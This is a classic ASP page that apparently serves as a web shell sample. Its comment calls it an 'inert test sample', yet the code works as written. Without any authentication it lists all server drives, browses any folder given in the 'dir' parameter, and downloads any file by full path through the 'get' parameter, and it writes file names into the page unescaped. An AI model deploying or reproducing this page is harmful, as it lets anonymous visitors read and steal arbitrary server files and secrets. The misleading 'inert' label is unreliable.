<%
' inert test sample: lists every drive, browses any folder and streams any file by full path
Dim fs, wanted, where, drv, dirObj, entry, bin
Set fs = Server.CreateObject("Scripting.FileSystemObject")
wanted = Trim(Request.QueryString("get"))
If Len(wanted) > 0 Then
  If fs.FileExists(wanted) Then
    Set bin = Server.CreateObject("ADODB.Stream")
    bin.Type = 1
    bin.Open
    bin.LoadFromFile(wanted)
    Response.ContentType = "application/octet-stream"
    Response.BinaryWrite bin.Read
    bin.Close
    Response.End
  End If
End If
where = Trim(Request.QueryString("dir"))
If Len(where) = 0 Then where = Server.MapPath("/")
For Each drv In fs.Drives
  If drv.IsReady Then Response.Write "<a href='?dir=" & drv.DriveLetter & ":\'>" & drv.DriveLetter & ":</a> "
Next
Set dirObj = fs.GetFolder(where)
For Each entry In dirObj.SubFolders
  Response.Write "<br><a href='?dir=" & Server.URLEncode(entry.Path) & "'>" & entry.Name & "\</a>"
Next
For Each entry In dirObj.Files
  Response.Write "<br><a href='?get=" & Server.URLEncode(entry.Path) & "'>" & entry.Name & "</a>"
Next
%>
